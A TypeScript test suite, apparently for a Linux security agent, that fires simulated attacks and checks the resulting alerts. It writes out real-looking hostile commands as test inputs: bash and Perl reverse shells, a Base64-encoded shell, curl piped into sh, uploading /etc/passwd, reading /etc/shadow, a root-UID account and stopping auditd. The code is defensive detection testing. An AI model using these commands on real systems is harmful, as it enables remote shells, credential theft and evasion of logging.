import assert from 'node:assert/strict';
import { execFileSync, spawn } from 'node:child_process';
import { once } from 'node:events';
import { chmodSync, copyFileSync, existsSync, mkdirSync, realpathSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { dirname, join } from 'node:path';
import { systemClock } from '../../src/core/base/clock.ts';
import { seconds } from '../../src/core/base/duration.ts';
import type { Payload } from '../../src/core/contract/event.ts';
import { suiteFolder } from '../harness/folders.ts';
import { require } from '../harness/require.ts';
import { until } from '../harness/until.ts';
import { type AgentProcess, QUICK, TestBed } from '../integration/test-bed.ts';
import { missingForAudit } from './missing-for-audit.ts';
import { missingForSshd, SshServer } from './sshd.ts';

/**
 * How long an alert is waited for. It takes less than 5 s, as the table shows (VAKT_PRINT_TABLE=1), on a machine that has nothing
 * else to do; this one may be shared.
 */
const LIMIT = seconds(60);
/** In which a second alert would come. */
const QUIET = seconds(5);
/** An account without rights. */
const NOBODY = 65_534;
/**
 * Users that nothing else runs as. The agent sees the shells of other tests, too, and what the same user does with the same
 * program is one alert.
 */
const [STRANGER, ANOTHER, WRAPPED, FLOODING, QUIET_USER, FORGER] = [
  61_234, 61_235, 61_236, 61_237, 61_238, 61_239,
] as const;

const DESIRED = {
  ...QUICK,
  // Half a day, the default: no snapshot that is sent shows a change.
  snapshotFrequency: { value: 'PT13H' },
  maxLocalCacheSizeInBytes: { value: 64_000_000 },
  // The rules see new ports nevertheless.
  eventPriorityListeningPorts: { value: 'Off' },
};

/** The control file of a Debian package. */
const control = (name: string): string =>
  `Package: ${name}\nVersion: 1\nArchitecture: all\nMaintainer: Vakt <vakt@example.com>\nDescription: for a test\n`;

type Start = readonly [program: string, ...args: string[]];

/** What looks like an attack to the agent, and harms nothing. */
interface Attack {
  readonly type: string;
  readonly level: 'High' | 'Medium';
  /** The program and its arguments, with the marker in one of them. */
  readonly start: Start;
  readonly userId?: number;
  /** What the rule matched in a reading of the command line, when that isn't the command line as it is. */
  readonly matched?: RegExp;
}

/** What was done, what alert came of it, and after how many seconds. */
const rows: { what: string; alert: Payload; took: number }[] = [];

describe('Alerts of attacks that really happen', function () {
  this.timeout(180_000);
  const marker = `vakt${process.pid}`;
  const table = `vakt_${process.pid}`;
  const user = `vakta${process.pid}`;
  let folder: string;
  let bed: TestBed;
  let agent: AgentProcess;
  let sshd: SshServer;
  let hasTable = false;
  let hasUser = false;

  before(async function () {
    require(this, await missingForAudit());
    require(this, missingForSshd());
    for (const tool of ['/usr/sbin/nft', '/usr/bin/curl', '/usr/bin/perl', '/usr/bin/openssl', '/usr/bin/dpkg-deb']) {
      require(this, existsSync(tool) ? undefined : `there is no ${tool}`);
    }
    folder = suiteFolder();
    chmodSync(folder, 0o755);
    sshd = await SshServer.start();
    // A policy without effect: the rule before it accepts all packets but those that nobody makes.
    nft(`add table inet ${table}`);
    hasTable = true;
    nft(`add chain inet ${table} input { type filter hook input priority 300; policy drop; }`);
    nft(`add rule inet ${table} input meta mark != 0x76616b74 accept`);
    bed = await TestBed.open({ desired: DESIRED });
    bed.writeConfiguration({ detections: { enabled: true } });
    bed.startWith(DESIRED);
    agent = bed.startAgent();
    await agent.waitForStatus(
      ({ collectors, configuration, detections }) =>
        collectors.ProcessCreate?.source === 'auditUnicast' &&
        collectors.FirewallConfiguration?.lastRunAt !== undefined &&
        collectors.LocalUsers?.lastRunAt !== undefined &&
        configuration.desiredVersion === 2 &&
        detections?.state === 'on',
      seconds(90),
    );
  });
  after(async () => {
    try {
      if (bed !== undefined) await bed.close();
    } finally {
      if (hasTable) nft(`delete table inet ${table}`);
      if (hasUser) execFileSync('/usr/sbin/userdel', ['--force', user], { stdio: 'ignore' });
      await sshd?.stop();
    }
    if (process.env.VAKT_PRINT_TABLE === '1') printTable();
  });

  const nft = (command: string) => execFileSync('/usr/sbin/nft', [command]);
  const alerts = () => bed.elements('SecurityAlert');
  const isMarked = ({ CommandLine, ParentCommandLine }: Payload) =>
    `${CommandLine} ${ParentCommandLine}`.includes(marker);

  /** A path in the test's folder. */
  const scratch = (path: string, text?: string): string => {
    const file = join(folder, marker, path);
    mkdirSync(dirname(file), { recursive: true });
    if (text !== undefined) writeFileSync(file, text);
    return file;
  };
  /** A program of that name that does nothing. */
  const stub = (name: string): string => {
    const file = scratch(name);
    if (!existsSync(file)) copyFileSync('/usr/bin/true', file);
    chmodSync(file, 0o755);
    return file;
  };
  const run = async ([program, ...args]: Start, userId = 0): Promise<number> => {
    const child = spawn(program, args, { stdio: 'ignore', cwd: '/', uid: userId, gid: userId });
    await once(child, 'exit');
    assert.ok(child.pid !== undefined);
    return child.pid;
  };

  /** Acts, and waits for the alert. @param since whether the seconds are counted from the beginning or the end of the act */
  const raises = async <T>(
    what: string,
    act: () => T,
    isMeant: (alert: Payload) => boolean,
    { since = 'beginning' }: { since?: 'beginning' | 'end' } = {},
  ): Promise<{ alert: Payload; result: Awaited<T> }> => {
    let began = systemClock.monotonic();
    const result = await act();
    if (since === 'end') began = systemClock.monotonic();
    await until(
      () => `the alert of: ${what}; there are ${JSON.stringify(alerts())}`,
      () => alerts().some(isMeant),
      { limit: LIMIT },
    );
    const took = (systemClock.monotonic() - began) / 1_000;
    const [alert = {}] = alerts().filter(isMeant);
    rows.push({ what, alert, took });
    return { alert, result };
  };
  const ofType = (type: string) => alerts().filter(({ AlertType }) => AlertType === type);

  const reverseShell: Start = ['/bin/bash', '-c', `: ${marker}; bash -i >& /dev/tcp/127.0.0.1/1 0>&1`];
  const perlShell = [
    'use Socket;socket(S,PF_INET,SOCK_STREAM,6);',
    'if(connect(S,sockaddr_in(1,inet_aton("127.0.0.1")))){open(STDIN,">&S");open(STDOUT,">&S");exec("/bin/sh -i");}',
  ].join('');
  const encoded = (script: string) => Buffer.from(script).toString('base64');

  const attacks = (): Record<string, Attack> => ({
    'A shell of bash to another machine, by an account without rights': {
      type: 'IoT_ReverseShell',
      level: 'High',
      start: reverseShell,
      userId: NOBODY,
    },
    'A shell of Perl to another machine': {
      type: 'IoT_ReverseShell',
      level: 'High',
      start: ['/usr/bin/perl', '-e', perlShell, marker],
    },
    'The same in Base64, decoded into a shell': {
      type: 'IoT_ReverseShell',
      level: 'High',
      start: ['/bin/sh', '-c', `: ${marker}; echo ${encoded('bash -i >& /dev/tcp/127.0.0.1/1 0>&1')} | base64 -d | sh`],
      userId: STRANGER,
      matched: /\/dev\/tcp\/127\.0\.0\.1/,
    },
    'A download piped into a shell': {
      type: 'IoT_DownloadFileThenRun',
      level: 'Medium',
      start: ['/bin/sh', '-c', `curl -s http://${marker}.invalid/x.sh | sh`],
    },
    'A miner': {
      type: 'IoT_CryptoMiner',
      level: 'High',
      start: [stub('xmrig'), '-o', `stratum+tcp://127.0.0.1:1`, '-u', marker, '--donate-level=1'],
    },
    'A log emptied': {
      type: 'IoT_RemovelOfSystemLogs',
      level: 'Medium',
      start: ['/usr/bin/truncate', '-s', '0', scratch('var/log/auth.log', 'a line\n')],
    },
    'The firewall switched off': { type: 'IoT_DisableFirewall', level: 'High', start: [stub('ufw'), 'disable'] },
    'The audit daemon stopped': {
      type: 'IoT_DisableAuditdLogging',
      level: 'High',
      start: [stub('systemctl'), 'stop', 'auditd'],
    },
    'Password hashes read': {
      type: 'IoT_CredentialAccessTools',
      level: 'Medium',
      start: ['/bin/cat', '/etc/shadow', `/nonexistent/${marker}`],
    },
    'A set-user-id copy in a temporary folder': {
      type: 'IoT_LinuxBackdoor',
      level: 'Medium',
      start: ['/usr/bin/install', '-m', '4755', '/bin/true', scratch('sh')],
    },
    'A job from a temporary folder': {
      type: 'IoT_LinuxBackdoor',
      level: 'Medium',
      start: [stub('crontab'), scratch('job', '')],
    },
    'A file sent away': {
      type: 'IoT_EgressData',
      level: 'Medium',
      start: ['/usr/bin/curl', '-s', '-T', '/etc/passwd', `http://127.0.0.1:1/${marker}`],
    },
    'An account with root rights': {
      type: 'IoT_SuspiciousUseradd',
      level: 'Medium',
      start: [stub('useradd'), '-o', '-u', '0', 'toor'],
    },
    'A container with all rights': {
      type: 'IoT_PrivilegedContainer',
      level: 'Medium',
      start: [stub('docker'), 'run', '--privileged', '-v', '/:/host', 'alpine'],
    },
  });

  it('are one for each of fourteen attacks, with the evidence', async () => {
    const pids = new Map<number, string>();
    for (const [what, { type, level, start, userId = 0, matched }] of Object.entries(attacks())) {
      const known = new Set(alerts().map(({ AlertId }) => AlertId));
      const isNew = (alert: Payload) => isMarked(alert) && !known.has(alert.AlertId);
      const { alert, result: pid } = await raises(what, () => run(start, userId), isNew);
      pids.set(pid, what);
      const told = JSON.stringify(alert);
      assert.deepEqual([alert.AlertType, alert.Severity, alert.Count], [type, level, 1], told);
      assert.deepEqual([alert.EventName, alert.RuleSource], ['ProcessCreate', 'builtin'], told);
      assert.equal(alert.CommandLine, start.join(' '));
      assert.deepEqual([alert.ProcessId, alert.ParentProcessId], [pid, process.pid], told);
      assert.equal(alert.UserId, String(userId), told);
      assert.equal(alert.ParentExecutable, realpathSync(process.execPath), told);
      if (matched !== undefined) {
        assert.match(String((alert.ExtraDetails as Payload).MatchedCommandLine), matched, told);
      }
      await bed.waitForEvents(() => bed.events('ProcessCreate').some(({ Id }) => Id === alert.EventIds));
      const about = bed.events('ProcessCreate').find(({ Id }) => Id === alert.EventIds);
      assert.deepEqual(
        about?.Payload.map(({ ProcessId, CommandLine }) => [ProcessId, CommandLine]),
        [[pid, alert.CommandLine]],
      );
    }
    await systemClock.sleep(QUIET);
    assert.deepEqual(
      alerts()
        .filter(isMarked)
        .map(({ ProcessId }) => pids.get(Number(ProcessId))),
      [...pids.values()],
    );
  });

  it('are counted, not raised again, when an attack is repeated', async () => {
    await run(reverseShell, ANOTHER);
    await until('the first', () => alerts().some((alert) => isMarked(alert) && alert.UserId === String(ANOTHER)));
    const { counted } = (await agent.status()).detections ?? assert.fail();
    const before = alerts().filter(isMarked).length;
    for (let times = 0; times < 3; times += 1) await run(reverseShell, ANOTHER);
    await until('the count', async () => ((await agent.status()).detections?.counted ?? 0) >= counted + 3);
    await systemClock.sleep(QUIET);
    assert.equal(alerts().filter(isMarked).length, before);
  });

  /** The reverse shell to another port, and so to another target. */
  const shellTo = (port: number): Start => [
    '/bin/bash',
    '-c',
    `: ${marker}; bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`,
  ];
  const alertsOf = (userId: number) => alerts().filter((alert) => isMarked(alert) && alert.UserId === String(userId));

  it('count wrappers and their command as one, and raise another alert for a second target', async () => {
    await raises(
      'A shell started by timeout and nohup',
      () => run(['/usr/bin/timeout', '5', 'nohup', ...shellTo(2)], WRAPPED),
      ({ UserId }) => UserId === String(WRAPPED),
    );
    await run(shellTo(3), WRAPPED);
    await until('the second alert', () => alertsOf(WRAPPED).length >= 2, { limit: LIMIT });
    await systemClock.sleep(QUIET);
    const found = alertsOf(WRAPPED).map(({ CommandLine, Count, Selection }) => [CommandLine, Count, Selection]);
    assert.deepEqual(found, [
      [['/usr/bin/timeout', '5', 'nohup', ...shellTo(2)].join(' '), 1, 'shellToDevice'],
      [shellTo(3).join(' '), 1, 'shellToDevice'],
    ]);
  });

  it('arrive for another user, and for another rule, after 120 harmless alerts of one user', async () => {
    const harmless = (n: number): Start => ['/bin/cat', '/etc/shadow', `/nonexistent/${marker}-${n}`];
    await Promise.all(Array.from({ length: 120 }, (_, n) => run(harmless(n), FLOODING)));
    const isHeldBack = ({ ExtraDetails }: Payload) =>
      String((ExtraDetails as Payload | undefined)?.HeldBack).endsWith(`held back, user ${FLOODING}`);
    await raises('120 harmless alerts', () => {}, isHeldBack);
    assert.equal(alertsOf(FLOODING).filter((alert) => !isHeldBack(alert)).length, 20);
    for (const [start, userId] of [
      [harmless(1), QUIET_USER],
      [reverseShell, FLOODING],
    ] as const) {
      const isIt = (alert: Payload) => alert.UserId === String(userId) && alert.CommandLine === start.join(' ');
      const { alert } = await raises(`One of user ${userId} after 120 harmless ones`, () => run(start, userId), isIt);
      assert.equal(isHeldBack(alert), false);
    }
  });

  it('reports an attack at its full level when a user forges the arguments of a maintainer script', async () => {
    const script = scratch('attack.sh', `${stub('systemctl')} stop auditd; sleep 1\n`);
    const forged = '/bin/sh /var/lib/dpkg/info/a.postinst configure';
    const isIt = ({ AlertType, UserId }: Payload) =>
      AlertType === 'IoT_DisableAuditdLogging' && UserId === String(FORGER);
    const forge: Start = ['/bin/bash', '-c', `exec -a '${forged}' /bin/bash ${script}`];
    const { alert } = await raises('Audit stopped with forged arguments', () => run(forge, FORGER), isIt);
    assert.deepEqual([alert.Severity, alert.During], ['High', undefined], JSON.stringify(alert));
    assert.equal(alert.ParentCommandLine, `${forged} ${script}`);
  });

  it('reports it one level lower, with the package manager, when a script of a package does the same', async () => {
    const name = `vakt-actors-${process.pid}`;
    const written = scratch('package/DEBIAN/control', control(name));
    const line = `${stub('systemctl')} stop auditd ${marker}-package`;
    chmodSync(scratch('package/DEBIAN/postinst', `#!/bin/sh\n${line}\nsleep 1\n`), 0o755);
    const archive = join(folder, `${name}.deb`);
    const pack = ['--build', '--root-owner-group', dirname(dirname(written)), archive];
    execFileSync('/usr/bin/dpkg-deb', pack, { stdio: 'ignore' });
    const isIt = ({ CommandLine }: Payload) => CommandLine === line;
    try {
      const install: Start = ['/usr/bin/dpkg', '--install', archive];
      const { alert } = await raises('Audit stopped by a script of a package', () => run(install), isIt);
      const shown = JSON.stringify(alert);
      assert.deepEqual(
        [alert.AlertType, alert.Severity, alert.During],
        ['IoT_DisableAuditdLogging', 'Medium', 'dpkg'],
        shown,
      );
      const { Ancestors } = alert.ExtraDetails as Readonly<Record<string, string>>;
      assert.match(String(Ancestors), /^[^;]*sh;\/usr\/bin\/dpkg(;|$)/);
    } finally {
      execFileSync('/usr/bin/dpkg', ['--purge', name], { stdio: 'ignore' });
    }
  });

  it('names the program that started an attack when its process has executed another one since', async () => {
    const line = `${stub('xmrig')} -o stratum+tcp://127.0.0.1:1 -u ${marker}-later`;
    const start: Start = ['/bin/bash', '-c', `${line}; exec /usr/bin/sleep 1`];
    const isIt = ({ CommandLine }: Payload) => CommandLine === line;
    const { alert } = await raises('A miner whose parent becomes sleep', () => run(start, FORGER), isIt);
    assert.deepEqual(
      [alert.ParentExecutable, alert.ParentCommandLine],
      [realpathSync('/bin/bash'), start.join(' ')],
      JSON.stringify(alert),
    );
  });

  it('are one for a port that is opened', async () => {
    const server = createServer();
    try {
      const isIt = ({ LocalPort }: Payload) => LocalPort === String((server.address() as AddressInfo).port);
      const { alert } = await raises('A port opened', () => once(server.listen(0, '0.0.0.0'), 'listening'), isIt);
      const told = JSON.stringify(alert);
      assert.deepEqual([alert.AlertType, alert.Severity, alert.Count], ['VAKT_NewListeningPort', 'Medium', 1], told);
      assert.deepEqual([alert.Protocol, alert.LocalAddress, alert.UserId], ['tcp', '0.0.0.0', '0'], told);
      assert.equal(alert.Executable, realpathSync(process.execPath), told);
      assert.deepEqual([alert.ProcessId, alert.ParentProcessId], [process.pid, process.ppid], told);
      await systemClock.sleep(QUIET);
      assert.equal(alerts().filter(isIt).length, 1);
      assert.deepEqual(bed.events('ListeningPorts'), []);
    } finally {
      server.close();
    }
  });

  it('are one for an account that is added', async () => {
    const add = () => {
      hasUser = true;
      execFileSync('/usr/sbin/useradd', ['--no-create-home', '--shell', '/bin/bash', user]);
    };
    const isIt = (alert: Payload) => alert.UserName === user && alert.EventName === 'LocalUsers';
    const { alert } = await raises('An account added', add, isIt);
    assert.deepEqual(
      [alert.AlertType, alert.Severity, alert.Count],
      ['VAKT_UserAdded', 'Medium', 1],
      JSON.stringify(alert),
    );
    const { ActorInferred, ActorExecutable } = alert.ExtraDetails as Payload;
    assert.deepEqual([ActorInferred, ActorExecutable], ['true', '/usr/sbin/useradd'], JSON.stringify(alert));
    await systemClock.sleep(QUIET);
    assert.equal(alerts().filter(isIt).length, 1);
    assert.equal(bed.events('LocalUsers').length, 1);
  });

  it('are one for each opening of the packet filter', async () => {
    const openings = [
      ['Policy set to accept', 'VAKT_FirewallPolicyPermissive', `chain inet ${table} input { policy accept; }`],
      ['Rule that accepts all', 'VAKT_FirewallRulePermissive', `add rule inet ${table} input accept`],
    ] as const;
    for (const [what, type, command] of openings) {
      const isIt = (alert: Payload) =>
        alert.AlertType === type && (alert.ExtraDetails as Payload | undefined)?.Table === table;
      const { alert } = await raises(`Packet filter: ${what}`, () => nft(command), isIt);
      const told = JSON.stringify(alert);
      assert.deepEqual([alert.Severity, alert.Count, alert.EventName], ['Medium', 1, 'FirewallConfiguration'], told);
      await systemClock.sleep(QUIET);
      assert.equal(alerts().filter(isIt).length, 1);
    }
  });

  it('are one for passwords that are guessed at a real sshd, and one for the login that follows', async () => {
    const guess = () =>
      Promise.all(Array.from({ length: 5 }, () => sshd.visit({ passwords: ['wrong', 'also wrong', 'no better'] })));
    const isGuessing = ({ AlertType }: Payload) => AlertType === 'VAKT_FailedBruteForce';
    const failed = await raises('Passwords guessed, after the last one', guess, isGuessing, { since: 'end' });
    assert.deepEqual([failed.alert.Severity, failed.alert.RemoteAddress], ['Medium', '127.0.0.1']);
    const isLogin = ({ AlertType }: Payload) => AlertType === 'VAKT_SuccessfulBruteForce';
    const { alert } = await raises('Logged in after that', () => sshd.visit({ command: ['true'] }), isLogin);
    const told = JSON.stringify(alert);
    assert.deepEqual([alert.Severity, alert.EventName, alert.Result], ['High', 'Login', 'Success'], told);
    assert.deepEqual([alert.UserName, alert.RemoteAddress, alert.Count], [sshd.user, '127.0.0.1', 1], told);
    await systemClock.sleep(QUIET);
    for (const type of ['VAKT_FailedBruteForce', 'VAKT_SuccessfulBruteForce']) {
      assert.equal(ofType(type).length, 1, type);
    }
  });

  function printTable(): void {
    const lines = rows.map(
      ({ what, alert, took }) => `| ${what} | ${alert.AlertType} | ${alert.Severity} | ${took.toFixed(1)} |`,
    );
    const sorted = rows.map(({ took }) => took).sort((a, b) => a - b);
    const [median = 0, worst = 0] = [sorted[Math.floor(sorted.length / 2)], sorted.at(-1)];
    const summary = `median ${median.toFixed(1)} s, worst ${worst.toFixed(1)} s, from the beginning of the act to the hub`;
    process.stdout.write(
      ['', '| attack | alert | level | seconds |', '| --- | --- | --- | --- |', ...lines, '', summary, ''].join('\n'),
    );
  }
});
